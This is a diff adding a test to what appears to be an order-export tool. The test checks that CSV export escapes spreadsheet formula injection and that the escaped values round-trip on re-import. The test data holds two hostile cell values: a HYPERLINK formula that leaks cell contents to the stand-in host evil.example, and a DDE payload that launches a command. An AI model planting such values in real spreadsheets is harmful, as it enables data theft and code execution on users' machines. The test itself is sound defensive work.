@@ -177,3 +177,49 @@ def test_imported_dates_are_stored_as_the_api_stores_them(db: Database, tmp_path
     for query in (OrderQuery(added_from=moment), OrderQuery(added_to=moment)):
         with db.read() as conn:
             assert repo.count_orders(conn, store_id, query) == 1, query
+
+
+HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+HOSTILE_EMAIL = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+def test_export_csv_neutralises_formulas_and_round_trips(db: Database, tmp_path: Path) -> None:
+    source = new_store(db, "A")
+    target = new_store(db, "B")
+    shipping = {**sample_order()["shipping"], "first_name": HOSTILE_NAME, "company": "-2+3"}
+    order = sample_order(source_id="F1", email=HOSTILE_EMAIL, shipping=shipping, handling_total=-5)
+    runner.invoke(
+        app,
+        [
+            "orders",
+            "import",
+            str(source),
+            str(write_jsonl(tmp_path / "in.jsonl", [order])),
+            "--quiet",
+        ],
+    )
+    out = tmp_path / "out.csv"
+    result = runner.invoke(
+        app, ["orders", "export", str(source), "--format", "csv", "-o", str(out)]
+    )
+    assert result.exit_code == 0, result.output
+    rows = list(csv.DictReader(out.open()))
+    assert rows[0]["shipping_first_name"] == "'" + HOSTILE_NAME
+    assert rows[0]["email"] == "'" + HOSTILE_EMAIL
+    assert rows[0]["shipping_company"] == "'-2+3"
+    assert rows[0]["handling_total"] == "-5"  # a number stays a number
+    assert not any(
+        cell.startswith(("=", "+", "-", "@"))
+        for row in rows
+        for k, cell in row.items()
+        if k != "handling_total"
+    )
+
+    result = runner.invoke(app, ["orders", "import", str(target), str(out), "--quiet"])
+    assert "imported 1, skipped 0" in result.output, result.output
+    with db.read() as conn:
+        ids = repo.search_order_ids(conn, target, OrderQuery(), limit=10, offset=0)
+        (copied,) = repo.load_orders(conn, target, ids, with_history=False)
+    assert copied.email == HOSTILE_EMAIL
+    assert copied.shipping["first_name"] == HOSTILE_NAME
+    assert copied.shipping["company"] == "-2+3"
